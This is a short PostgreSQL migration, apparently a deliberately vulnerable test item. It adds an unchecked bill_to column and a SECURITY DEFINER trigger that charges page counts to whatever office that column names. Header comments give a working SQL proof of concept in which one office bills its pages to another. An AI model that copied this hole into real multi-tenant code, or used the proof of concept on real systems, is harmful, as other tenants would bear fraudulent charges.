-- The counter follows a text in the page's client hint: a page of one office is billed to another.
-- about: count_page, usage_counters, scan.pages
-- as: hf_scanning_app
-- exploit: SET scan.office_code = 'a12';
-- exploit: INSERT INTO scan.pages (office_code, batch_id, page_no, content, bill_to)
-- exploit: VALUES ('a12', 'a0000000-0000-4000-8000-000000000002', 5, '', 'b12');
-- exploit: SET scan.office_code = 'b12';
-- exploit: SELECT 'billed ' || pages FROM scan.usage_counters;
-- shows: billed 2
-- Offices that work for each other have the pages billed to the one that ordered them.
ALTER TABLE scan.pages ADD COLUMN bill_to scan.code;
CREATE OR REPLACE FUNCTION scan.count_page() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  INSERT INTO scan.usage_counters AS u
  VALUES (coalesce(NEW.bill_to, NEW.office_code), date_trunc('month', now())::date, 1)
  ON CONFLICT (office_code, month) DO UPDATE SET pages = u.pages + 1;
  RETURN NULL;
END
$$;
